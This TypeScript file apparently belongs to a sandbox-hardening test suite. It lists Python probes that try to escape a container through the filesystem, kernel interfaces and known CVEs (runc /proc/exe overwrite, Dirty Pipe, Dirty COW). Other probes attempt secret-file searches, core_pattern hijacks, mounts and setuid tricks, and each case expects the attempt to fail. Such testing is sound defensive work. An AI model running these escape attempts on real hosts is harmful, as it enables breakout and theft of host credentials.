/** Ways out by files: paths, links, descriptors, mounts, devices, and the kernel's own files. */
import type { Escape } from "./escape.ts";

export const BY_FILES: readonly Escape[] = [
  {
    name: "a file of the host, by its path",
    tries: `tell("read", lambda: read(world["secret"])); tell("list", lambda: os.listdir(world["directory"]))`,
  },
  {
    name: "a file of the host, up from the code's directory",
    tries: `
      for depth in (3, 8, 40): tell(str(depth), lambda: read("/var/task/" + "../" * depth + world["secret"]))`,
  },
  {
    name: "a file of the host, by symbolic links in /tmp",
    tries: `
      os.symlink(world["secret"], "/tmp/absolute")
      os.symlink("../" * 20 + world["secret"], "/tmp/relative")
      os.symlink(world["directory"], "/tmp/directory")
      for path in ("/tmp/absolute", "/tmp/relative", "/tmp/directory/secret.txt"): tell(path, lambda: read(path))`,
  },
  {
    name: "a file of the host, by /proc/*/root and /proc/*/cwd",
    tries: `
      for pid in ["self", "thread-self", "1", str(os.getppid())]:
          for link in ("root", "cwd"):
              tell(pid + " " + link, lambda: read("/proc/%s/%s/%s%s" % (pid, link, "../" * 20, world["secret"])))`,
  },
  {
    name: "a file of the host, by what descriptors every process inside holds",
    tries: `
      def all_descriptors():
          found = []
          for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
              try: links = os.listdir("/proc/%s/fd" % pid)
              except OSError: continue
              for link in links:
                  path = "/proc/%s/fd/%s" % (pid, link)
                  try:
                      if stat.S_ISDIR(os.stat(path).st_mode): found.append(read(path + "/" + "../" * 20 + world["secret"]))
                      if ".sqlite" in os.readlink(path) or "cgroup" in os.readlink(path): found.append(os.readlink(path))
                  except OSError: pass
          return found
      tell("descriptors", all_descriptors)`,
    contained: /^done \[\]$/,
  },
  {
    name: "a file of the host, by walking out of a directory that is moved meanwhile",
    tries: `
      os.makedirs("/tmp/a/b/c")
      inner = os.open("/tmp/a/b/c", os.O_RDONLY | os.O_DIRECTORY)
      os.rename("/tmp/a/b/c", "/tmp/c")
      up = lambda: os.open("../" * 30 + world["secret"].lstrip("/"), os.O_RDONLY, dir_fd=inner)
      tell("moved", up)
      tell("chroot", lambda: call("chroot", b"/tmp/c"))`,
  },
  {
    name: "a file of the host, by a handle of its inode (open_by_handle_at)",
    ofKernel: true,
    tries: `
      handle = ctypes.create_string_buffer(struct.pack("iI", 8, 1) + struct.pack("II", 2, 0) + bytes(64))
      where = os.open("/var/task", os.O_RDONLY)
      for inode in (2, 128, 256):
          struct.pack_into("II", handle, 8, inode, 0)
          tell("inode %d" % inode, lambda: call("open_by_handle_at", where, handle, os.O_RDONLY))
      tell("handle", lambda: call("name_to_handle_at", -100, b"/var/task", handle, ctypes.byref(ctypes.c_int()), 0))`,
  },
  {
    name: "secrets of the host anywhere in the tree that is seen",
    tries: `
      def search():
          found = []
          for top, directories, files in os.walk("/"):
              if top in ("/proc", "/usr/lib", "/usr/share", "/var/lang", "/sys"): directories[:] = []
              found += [os.path.join(top, name) for name in files + directories if name in (
                  "shadow", "secret.txt", "region.sqlite", "region.key", "docker.sock", "id_rsa", "neighbour-secret")]
          return found
      tell("search", search)`,
    contained: /^done \[\]$/,
  },
  {
    name: "sockets of the host's services",
    tries: `
      for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
          "/run/systemd/private", "/run/systemd/notify", world["socket"]):
          tell(path, lambda: socket.socket(socket.AF_UNIX).connect(path))`,
  },
  {
    name: "writing to code, runtime, language, layers, programs and configuration",
    tries: `
      for path in ("/var/task/attacker.py", "/etc/hosts", "/etc/passwd", "/etc/ld.so.cache", "/usr/bin/env", "/bin/sh"):
          tell(path, lambda: write(path))
      for path in ("/var/task/new", "/var/runtime/new", "/var/lang/new", "/opt/new", "/usr/lib/new", "/etc/new", "/new",
          "/run/alonzo/new", "/dev/new", "/mnt/new", "/var/tmp/new"):
          tell(path, lambda: os.open(path, os.O_CREAT | os.O_WRONLY))`,
  },
  {
    name: "changing what is read-only: modes, owners, times, names, flags",
    tries: `
      code = "/var/task/attacker.py"
      tell("chmod", lambda: os.chmod(code, 0o777))
      tell("chown", lambda: os.chown(code, os.getuid(), os.getgid()))
      tell("utime", lambda: os.utime(code))
      tell("unlink", lambda: os.unlink(code))
      tell("rename", lambda: os.rename(code, "/var/task/other.py"))
      tell("truncate", lambda: os.truncate(code, 0))
      tell("xattr", lambda: os.setxattr(code, "user.x", b"y"))
      tell("flags", lambda: fcntl.ioctl(os.open(code, os.O_RDONLY), 0x40086602, struct.pack("l", 0x20)))`,
    contained: /^(EROFS|EPERM|EACCES|EOPNOTSUPP|ENOTTY)$/,
  },
  {
    name: "hard links to programs and to the sandbox's own user database",
    tries: `
      for path in ("/usr/bin/env", "/run/alonzo/passwd", "/var/task/attacker.py", "/proc/1/exe"):
          tell(path, lambda: os.link(path, "/tmp/link", follow_symlinks=False))`,
  },
  {
    name: "the program that started the sandbox, overwritten by /proc/*/exe (CVE-2019-5736)",
    tries: `
      for pid in ("self", "1"):
          tell(pid, lambda: write("/proc/%s/exe" % pid))
          tell(pid + " by descriptor", lambda: write("/proc/self/fd/%d" % os.open("/proc/%s/exe" % pid, os.O_PATH)))`,
    contained: /^(ETXTBSY|EROFS|EACCES|EPERM)$/,
  },
  {
    name: "a page of a read-only file, changed in memory by a pipe (CVE-2022-0847)",
    tries: `
      def dirty():
          path = "/var/task/attacker.py"
          before = read(path)
          reading, writing = os.pipe()
          os.write(writing, b"x" * 65536); os.read(reading, 65536)
          file = os.open(path, os.O_RDONLY)
          os.splice(file, writing, 1, offset_src=0)
          os.write(writing, b"escaped")
          return read(path) == before
      tell("unchanged", dirty)`,
    contained: /^done True$/,
  },
  {
    name: "a page of a read-only file, changed by writing to own memory while it is thrown away (CVE-2016-5195)",
    tries: `
      def dirty():
          import mmap
          path = "/var/task/attacker.py"
          before = read(path)
          file = os.open(path, os.O_RDONLY)
          mapped = mmap.mmap(file, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
          address = [int(line.split("-")[0], 16) for line in open("/proc/self/maps") if path in line][0]
          memory = os.open("/proc/self/mem", os.O_RDWR)
          for _ in range(2000):
              try: os.pwrite(memory, b"escaped", address)
              except OSError: pass
              mapped.madvise(4)
          return read(path) == before
      tell("unchanged", dirty)`,
    contained: /^done True$/,
  },
  {
    name: "mounting: tmpfs, proc, sysfs, cgroups, overlays, binds, devices",
    tries: `
      os.makedirs("/tmp/m"); os.makedirs("/tmp/u"); os.makedirs("/tmp/w")
      for kind in (b"tmpfs", b"proc", b"sysfs", b"cgroup", b"cgroup2", b"devtmpfs", b"debugfs", b"bpf", b"mqueue", b"nfs"):
          tell(kind.decode(), lambda: call("mount", kind, b"/tmp/m", kind, 0, None))
      tell("overlay", lambda: call("mount", b"o", b"/tmp/m", b"overlay", 0, b"lowerdir=/,upperdir=/tmp/u,workdir=/tmp/w"))
      tell("bind", lambda: call("mount", b"/proc/1/root", b"/tmp/m", None, 4096, None))
      tell("disk", lambda: call("mount", b"/dev/vda", b"/tmp/m", b"ext4", 0, None))`,
  },
  {
    name: "taking away walls: remounting writable, unmounting masks, another root",
    tries: `
      for place in (b"/", b"/var/task", b"/proc", b"/proc/sys", b"/usr/bin"):
          tell("remount " + place.decode(), lambda: call("mount", None, place, None, 32 | 4096, None))
          tell("unmount " + place.decode(), lambda: call("umount2", place, 2))
      tell("unmount a mask", lambda: call("umount2", b"/proc/keys", 2))
      tell("shared", lambda: call("mount", None, b"/", None, 1 << 20 | 16384, None))
      tell("pivot_root", lambda: call("pivot_root", b"/tmp", b"/tmp"))`,
  },
  {
    name: "mounting by the younger system calls",
    tries: `
      tell("open_tree", lambda: call("open_tree", -100, b"/", 1))
      tell("fsopen", lambda: call("fsopen", b"tmpfs", 0))
      tell("move_mount", lambda: call("move_mount", -100, b"/tmp", -100, b"/mnt", 0))
      tell("mount_setattr", lambda: call("mount_setattr", -100, b"/", 0, bytes(32), 32))`,
  },
  {
    name: "making devices: disks, memory, terminals",
    tries: `
      for name, kind, major, minor in (("disk", stat.S_IFBLK, 254, 0), ("sda", stat.S_IFBLK, 8, 0),
          ("mem", stat.S_IFCHR, 1, 1), ("kmsg", stat.S_IFCHR, 1, 11), ("tty", stat.S_IFCHR, 5, 0), ("tun", stat.S_IFCHR, 10, 200)):
          tell(name, lambda: os.mknod("/tmp/" + name, kind | 0o666, os.makedev(major, minor)))`,
  },
  {
    name: "devices of the host that are open to whoever finds them",
    tries: `
      for name in ("mem", "kmem", "port", "kmsg", "kvm", "fuse", "vda", "sda", "nvme0n1", "loop-control", "net/tun", "vhost-net",
          "vhost-vsock", "vsock", "ptmx", "tty", "console", "snapshot", "cpu/0/msr", "mapper/control", "userfaultfd", "uinput"):
          tell(name, lambda: os.open("/dev/" + name, os.O_RDWR))`,
    ofKernel: true,
  },
  {
    name: "programs that the kernel would run: core_pattern, modprobe, hotplug, uevent_helper, binfmt_misc",
    tries: `
      for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug",
          "/proc/sys/kernel/poweroff_cmd", "/sys/kernel/uevent_helper", "/sys/kernel/uevent_seqnum",
          "/proc/sys/fs/binfmt_misc/register", "/proc/sys/kernel/usermodehelper/bset"):
          tell(path, lambda: write(path, "|/tmp/escape"))`,
  },
  {
    name: "settings of the kernel in /proc/sys",
    tries: `
      for path in ("kernel/randomize_va_space", "kernel/hostname", "kernel/domainname", "kernel/panic", "kernel/sysrq",
          "vm/overcommit_memory", "vm/drop_caches", "vm/swappiness", "net/ipv4/ip_forward", "fs/file-max", "fs/suid_dumpable"):
          tell(path, lambda: write("/proc/sys/" + path, "1"))`,
  },
  {
    name: "the machine's switches: sysrq-trigger, power, memory, kernel profiling",
    tries: `
      for path in ("/proc/sysrq-trigger", "/sys/power/state", "/proc/irq/default_smp_affinity", "/proc/irq/0/smp_affinity",
          "/sys/kernel/profiling", "/proc/fs/nfsd/threads", "/proc/bus/pci/00/00.0", "/sys/fs/selinux/enforce", "/proc/mtrr"):
          tell(path, lambda: write(path, "b"))`,
  },
  {
    name: "control groups: release_agent, own limits, others' processes",
    tries: `
      def groups():
          found = []
          for top in ("/sys/fs/cgroup", "/tmp", "/run", "/mnt"):
              for place, _, files in os.walk(top):
                  found += [place + "/" + name for name in files if name in (
                      "release_agent", "cgroup.procs", "memory.max", "memory.limit_in_bytes", "devices.allow", "notify_on_release")]
          return found
      tell("files", groups)`,
    contained: /^done \[\]$/,
  },
  {
    name: "what the kernel tells of itself and of other programs: kcore, keys, interrupts, timers, schedulers",
    tries: `
      for name in ("kcore", "keys", "interrupts", "timer_list", "sched_debug", "latency_stats", "scsi/scsi", "acpi/wakeup", "kpagecount",
          "kpageflags", "vmallocinfo", "slabinfo", "asound/cards"):
          tell(name, lambda: read("/proc/" + name, 16))
      tell("kallsyms", lambda: {line.split()[0] for line in read("/proc/kallsyms").splitlines()} - {"0000000000000000"})`,
    contained: /^(done ''|done set\(\)|EACCES|EPERM|ENOENT|EIO|IndexError.*)$/,
    ofKernel: true,
  },
  {
    name: "files that are root's when run: set-user bits and capabilities of files",
    tries: `
      import shutil
      shutil.copy("/usr/bin/env", "/tmp/env")
      os.chmod("/tmp/env", 0o6755)
      def run_as_other():
          import subprocess
          return subprocess.run(["/tmp/env", "id", "-u"], capture_output=True, text=True).stdout.strip() == str(os.getuid())
      tell("as root", run_as_other)
      tell("owner", lambda: os.chown("/tmp/env", 0, 0))
      tell("capabilities", lambda: os.setxattr("/tmp/env", "security.capability", bytes.fromhex("0100000200002000000000000000000000000000")))
      tell("trusted", lambda: os.setxattr("/tmp/env", "trusted.overlay.redirect", b"/"))
      def set_user_programs():
          # By a program that is root's: what it starts with stays what the caller has.
          import subprocess
          ids = set()
          for program in ("/usr/bin/su", "/bin/su", "/usr/bin/mount", "/usr/bin/passwd", "/usr/bin/newgrp"):
              if not os.path.exists(program): continue
              running = subprocess.Popen([program], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
              try: ids.add(read("/proc/%d/status" % running.pid).split("Uid:")[1].split()[1] == str(os.geteuid()))
              except (OSError, IndexError): pass
              running.kill(); running.wait()
          return ids <= {True}
      tell("programs", set_user_programs)`,
    contained: /^(done True|EPERM|EACCES|EOPNOTSUPP|ENODATA|EINVAL)$/,
  },
  {
    name: "descriptors handed to the region over its own socket are not taken",
    tries: `
      def hand_over():
          line = socket.socket(socket.AF_UNIX)
          line.connect(world["runtimeApiSocket"])
          files = [os.open("/dev/null", os.O_RDONLY) for _ in range(50)]
          for _ in range(20):
              socket.send_fds(line, [b"x"], files)
          return "handed"
      tell("descriptors", hand_over)`,
    contained: /^(done 'handed'|ENOENT|EPERM|ECONNREFUSED|EPIPE|ECONNRESET|EMSGSIZE|EINVAL|TypeError.*)$/,
  },
];
